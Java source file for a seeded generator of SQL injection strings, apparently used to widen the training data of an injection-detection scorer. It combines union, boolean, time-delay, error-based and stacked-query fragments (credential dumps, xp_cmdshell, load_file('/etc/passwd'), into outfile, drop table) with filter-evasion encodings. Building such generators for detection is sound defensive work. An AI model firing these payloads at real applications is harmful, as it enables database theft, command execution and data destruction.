package dev.spoor.scoring.injection;

import java.util.Random;

/** Writes SQL injections of every kind and dialect: what the learned table is widened with. */
final class SqlVariants {
  private static final String[] COLUMNS = {
    "password",
    "user",
    "login",
    "email",
    "table_name",
    "column_name",
    "1",
    "2",
    "null",
    "name",
    "version()",
    "database()",
    "user()",
    "@@version",
    "concat(user,0x3a,password)",
    "banner",
    "pw",
    "concat_ws(0x3a,user(),version())",
    "group_concat(table_name)",
    "'a'",
    "char(58)",
    "*",
    "id",
    "0x414243",
    "current_user",
    "sqlite_version()",
    "load_file('/etc/passwd')",
    "credit_card",
    "string_agg(name,',')",
    "load_file(0x2f6574632f706173737764)",
    "unhex(hex(version()))",
    "flag",
    "cast(password as char)",
    "username||':'||password",
    "count(*)",
    "schema_name",
    "sql",
    "secret"
  };
  private static final String[] TABLES = {
    "users",
    "admin",
    "members",
    "information_schema.tables",
    "mysql.user",
    "sysobjects",
    "dual",
    "pg_shadow",
    "pg_user",
    "all_tables",
    "sqlite_master",
    "user_tables",
    "information_schema.columns",
    "accounts",
    "[users]",
    "`users`",
    "wp_users",
    "db.users",
    "tbl_admin",
    "sysibm.sysdummy1",
    "msysaccessobjects",
    "customers c",
    "master..sysdatabases",
    "\"users\"",
    "orders"
  };
  private static final String[] DELAYS = {
    "sleep(5)",
    "benchmark(5000000,md5(1))",
    "pg_sleep(5)",
    "(select sleep(5))",
    "(select pg_sleep(5))",
    "(select 1 from pg_sleep(5))",
    "(select * from (select(sleep(5)))a)",
    "dbms_pipe.receive_message('a',5)",
    "randomblob(500000000)",
    "(select(0)from(select(sleep(6)))v)",
    "like('abcdefg',upper(hex(randomblob(100000000))))",
    "if(1=1,sleep(5),0)",
    "sleep/**/(5)",
    "(select count(*) from generate_series(1,9999999))",
    "elt(1=1,sleep(5))",
    "(select case when 1=1 then pg_sleep(5) else null end)",
    "sleep(5)#",
    "rlike(sleep(3))"
  };
  private static final String[] ERRORS = {
    "extractvalue(1,concat(0x7e,version()))",
    "updatexml(1,concat(0x7e,user()),1)",
    "(select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)",
    "convert(int,(select @@version))",
    "cast((select version()) as int)",
    "1/0",
    "exp(~(select 1))",
    "utl_inaddr.get_host_address((select banner from v$version where rownum=1))",
    "ctxsys.drithsx.sn(1,(select user from dual))",
    "cast(chr(126)||version() as numeric)",
    "(select upper(xmltype(chr(60)||chr(58)||user)) from dual)",
    "gtid_subset(version(),1)",
    "geometrycollection((select * from(select * from(select version())a)b))",
    "polygon((select 1))",
    "json_keys((select convert((select version()) using utf8)))",
    "name_const(version(),1)",
    "db_name()",
    "1=convert(int,db_name())",
    "char(113)+char(118)",
    "(select top 1 name from sysobjects)",
    "extractvalue(rand(),concat(0x3a,(select database())))",
    "procedure analyse(extractvalue(1,1),1)"
  };
  private static final String[] STACKED = {
    "drop table users",
    "shutdown",
    "exec xp_cmdshell 'dir'",
    "exec master..xp_cmdshell 'whoami'",
    "waitfor delay '0:0:5'",
    "select pg_sleep(5)",
    "insert into users values(1,'a')",
    "update users set password='x'",
    "delete from users",
    "declare @s varchar(99) set @s='x' exec(@s)",
    "create table t(a int)",
    "alter table users add x int",
    "truncate table users",
    "select sleep(5)",
    "exec sp_configure 'show advanced options',1",
    "copy t from '/etc/passwd'",
    "select 1",
    "create user x identified by 'y'",
    "begin dbms_lock.sleep(5); end",
    "exec('sel'+'ect 1')",
    "grant all on *.* to x",
    "execute immediate 'select 1'",
    "load data infile '/etc/passwd' into table t",
    "if (1=1) waitfor delay '0:0:5'",
    "declare @x int",
    "use master",
    "print 1",
    "commit",
    "select * from users",
    "update users set role='admin' where id=1",
    "exec sp_who",
    "rename table a to b",
    "call dbms_scheduler.create_job()",
    "prepare s from 'select 1'",
    "handler users open",
    "set @a=0x53454c454354",
    "dbcc checkdb",
    "backup database x to disk='y'"
  };
  private static final String[] OPENINGS = {
    "1",
    "-1",
    "0",
    "999",
    "1)",
    "-1)",
    "1))",
    "'",
    "1'",
    "a'",
    "admin'",
    "x')",
    "')",
    "'))",
    "\"",
    "1\"",
    "a\")",
    "\")",
    "",
    "x",
    "id",
    "foo' ",
    "%'",
    "1 ",
    "null",
    "0x31",
    "1.5",
    "(1)",
    "1`",
    "test'",
    "-9999",
    "3-2",
    "@x",
    "1;",
    "';",
    "abc",
    "user@example.com'",
    "blah blah'",
    "1'\"",
    "\\'"
  };
  private static final String[] ENDINGS = {
    "",
    "",
    "--",
    "-- ",
    "-- -",
    "--+",
    "#",
    "/*",
    ";",
    ";--",
    " and '1'='1",
    " or '1'='1",
    "--+-",
    " and 1=1",
    " and \"a\"=\"a",
    ")",
    "))",
    "')--",
    "'",
    "\"",
    " limit 1",
    " limit 0,1",
    "-- x",
    ";#",
    " and ('a'='a",
    " and (1=1",
    " or ('a'='a",
    "\u0000",
    " --",
    "#x",
    "||'",
    "+'",
    "-- abc",
    "/**/--"
  };
  private static final String[] LOGIC = {
    "or",
    "and",
    "OR",
    "AND",
    "||",
    "&&",
    "xor",
    "or not",
    "and not",
    "Or",
    "aNd",
    "|",
    "&",
    "+or+",
    "/**/or/**/",
    "/*!50000or*/"
  };
  private static final String[] OPERANDS = {
    "1",
    "2",
    "'a'",
    "'x'",
    "\"a\"",
    "1.0",
    "0x1",
    "null",
    "true",
    "false",
    "id",
    "username",
    "password",
    "length(database())",
    "ascii(substring(user(),1,1))",
    "(select 1)",
    "sleep(1)",
    "version()",
    "@@version",
    "char(97)",
    "''",
    "5*5",
    "(1)",
    "-1",
    "0",
    "user_id",
    "~0",
    "!0",
    "row(1,1)",
    "1e0",
    "(select count(*) from users)",
    "(select password from users limit 1)",
    "ascii(mid(version(),1,1))",
    "substr(database(),1,1)",
    "ord(mid(user(),1,1))",
    "exists(select 1)",
    "@a",
    "1-1",
    "benchmark(1,1)"
  };
  private static final String[] COMPARISONS = {
    "=",
    "=",
    "=",
    "<",
    ">",
    "<>",
    "!=",
    " like ",
    ">=",
    "<=",
    " is ",
    " rlike ",
    " regexp ",
    "<=>",
    " not like ",
    " between 0 and ",
    " in (",
    " is not ",
    "=!",
    "-",
    "+",
    " glob ",
    " sounds like ",
    " not between 2 and ",
    " = "
  };

  private final Random random;

  SqlVariants(long seed) {
    random = new Random(seed);
  }

  private String one(String[] of) {
    return of[random.nextInt(of.length)];
  }

  /** The next attack; the sequence depends on the seed alone. */
  String next() {
    String value =
        switch (random.nextInt(16)) {
          case 0, 1, 2 -> union();
          case 3, 4, 5, 6 -> condition();
          case 7, 8 ->
              one(OPENINGS) + one(new String[] {";", "; ", ";;"}) + one(STACKED) + one(ENDINGS);
          case 9 -> one(OPENINGS) + " " + one(LOGIC) + " " + one(DELAYS) + one(ENDINGS);
          case 10 -> one(OPENINGS) + " " + one(LOGIC) + " " + one(ERRORS) + one(ENDINGS);
          case 11 -> concatenated();
          case 12 -> ordered();
          case 13 -> subquery();
          case 14 -> conditional();
          default -> tail();
        };
    return disguise(value);
  }

  private String union() {
    StringBuilder text = new StringBuilder(one(OPENINGS));
    if (random.nextInt(4) == 0) {
      text.append(" and ").append(random.nextInt(9)).append("=").append(random.nextInt(9));
    }
    text.append(
        one(
            new String[] {
              " union ",
              " union all ",
              " UNION SELECT ",
              " union distinct ",
              " union(",
              " /*!union*/ "
            }));
    if (text.indexOf("SELECT") < 0) {
      text.append(
          one(new String[] {"select ", "select ", "all select ", "select(", "/*!select*/ "}));
    }
    int columns = 1 + random.nextInt(random.nextInt(4) == 0 ? 20 : 6);
    for (int i = 0; i < columns; i++) {
      text.append(i == 0 ? "" : ",").append(random.nextBoolean() ? i + 1 + "" : one(COLUMNS));
    }
    if (random.nextInt(3) != 0) {
      text.append(" from ").append(one(TABLES));
      if (random.nextInt(3) == 0) {
        text.append(" where ").append(one(OPERANDS)).append(one(COMPARISONS)).append(one(OPERANDS));
      }
    }
    if (random.nextInt(6) == 0) {
      text.append(
          one(
              new String[] {
                " into outfile '/tmp/x'",
                " into dumpfile '/x.php'",
                " limit 0,1",
                " order by 1",
                " group by x",
                " having 1=1"
              }));
    }
    return text + one(ENDINGS);
  }

  private String condition() {
    StringBuilder text = new StringBuilder(one(OPENINGS));
    String quote = text.indexOf("'") >= 0 ? "'" : text.indexOf("\"") >= 0 ? "\"" : "";
    text.append(random.nextInt(5) == 0 ? "" : " ")
        .append(one(LOGIC))
        .append(random.nextInt(5) == 0 ? "" : " ");
    if (!quote.isEmpty() && random.nextBoolean()) {
      String word = one(new String[] {"1", "a", "x", "", "abc", "yes"});
      text.append(quote)
          .append(word)
          .append(quote)
          .append(one(COMPARISONS))
          .append(quote)
          .append(word);
      return random.nextInt(3) == 0 ? text + quote + one(ENDINGS) : text.toString();
    }
    text.append(one(OPERANDS)).append(one(COMPARISONS)).append(one(OPERANDS));
    if (random.nextInt(4) == 0) {
      text.append(" ")
          .append(one(LOGIC))
          .append(" ")
          .append(one(OPERANDS))
          .append(one(COMPARISONS))
          .append(one(OPERANDS));
    }
    return text + one(ENDINGS);
  }

  private String concatenated() {
    String quote = one(new String[] {"'", "'", "\""});
    String glue = one(new String[] {"||", "+", " ", "*", "-", "^", "%", "/", "&", "|", "="});
    String inside =
        one(
            new String[] {
              one(DELAYS),
              one(ERRORS),
              "(select " + one(COLUMNS) + " from " + one(TABLES) + ")",
              one(COLUMNS)
            });
    return one(new String[] {"", "a", "1", "foo", "9999"})
        + quote
        + glue
        + inside
        + glue
        + quote
        + one(new String[] {"", "", "a", "x"});
  }

  private String ordered() {
    return one(OPENINGS)
        + one(
            new String[] {
              " order by ",
              " group by ",
              " having ",
              " procedure analyse(",
              " limit 0 union select ",
              " ORDER/**/BY "
            })
        + one(
            new String[] {
              "1",
              "100",
              "1,2,3",
              "(select 1)",
              "1=1",
              "columns.user_id having 1=1",
              one(DELAYS),
              one(ERRORS)
            })
        + one(ENDINGS);
  }

  private String subquery() {
    return one(new String[] {"(", "1-(", "(((", "if((", "", "1 in (", "exists(", "1=(", "@a:=("})
        + "select "
        + one(COLUMNS)
        + " from "
        + one(new String[] {one(TABLES), "(select " + one(COLUMNS) + " from " + one(TABLES) + ")x"})
        + one(
            new String[] {
              "",
              "",
              " where " + one(OPERANDS) + one(COMPARISONS) + one(OPERANDS),
              " limit 1",
              " order by 1"
            })
        + one(new String[] {"", ")", "))", ")--"});
  }

  private String conditional() {
    return one(OPENINGS)
        + " "
        + one(LOGIC)
        + " "
        + one(
            new String[] {
              "if(" + one(OPERANDS) + one(COMPARISONS) + one(OPERANDS) + ",1,0)",
              "(case when ("
                  + one(OPERANDS)
                  + one(COMPARISONS)
                  + one(OPERANDS)
                  + ") then 1 else "
                  + one(DELAYS)
                  + " end)",
              "iif(1=1,1,0)",
              "exists(select * from " + one(TABLES) + ")",
              "(select count(*) from " + one(TABLES) + ")>0",
              "1=(select " + one(COLUMNS) + " from " + one(TABLES) + ")",
              "ascii(substring((select "
                  + one(COLUMNS)
                  + " from "
                  + one(TABLES)
                  + "),1,1))>"
                  + random.nextInt(127),
              "not exists(select 1)",
              "row(1,2)=(select 1,2)",
              "id in (select id from " + one(TABLES) + ")",
              one(OPERANDS) + " is not null",
              "1 like 1",
              "nullif(1,1)",
              "coalesce(1,null)"
            })
        + one(ENDINGS);
  }

  /** What cuts the statement short, or a condition that a type conversion makes true. */
  private String tail() {
    return one(
            new String[] {
              "'", "a'", "admin'", "1'", "')", "'))", "\"", "1)", "x\")", "admin\"", "root'"
            })
        + one(
            new String[] {
              "--",
              "-- ",
              "-- -",
              "#",
              "/*",
              ";--",
              " or 1--",
              "or 1=1",
              " or true--",
              " or 1#",
              "=0--+",
              "=''#",
              "||1#",
              "*1--",
              "-0#",
              "^0#",
              "|0#",
              "&1-- ",
              " or ''='",
              "=''='",
              " limit 1--",
              " group by 1--",
              ";#",
              " is null--",
              " or 1 or '",
              "+or+1--",
              " and sleep(1)--",
              " like '%",
              "=''or'",
              "<>''",
              " between 1 and 2--",
              "%0a--",
              " collate nocase--"
            });
  }

  private String disguise(String value) {
    return switch (random.nextInt(12)) {
      case 0 -> value.replace(" ", "/**/");
      case 1 -> value.replace(" ", "+");
      case 2 -> value.replace(" ", "%0a").replace("union", "uNiOn").replace("select", "sElEcT");
      case 3 -> value.toUpperCase(java.util.Locale.ROOT);
      case 4 -> value.replace("'", "%27").replace(" ", "%20").replace("\"", "%22");
      case 5 ->
          value.length() > 12 && random.nextBoolean()
              ? value.substring(0, value.length() * 3 / 4)
              : value;
      case 6 -> value.replace("'", "%2527").replace(" ", "%2520");
      case 7 -> value.replace("union", "/*!50000union*/").replace("select", "/*!50000select*/");
      default -> value;
    };
  }
}
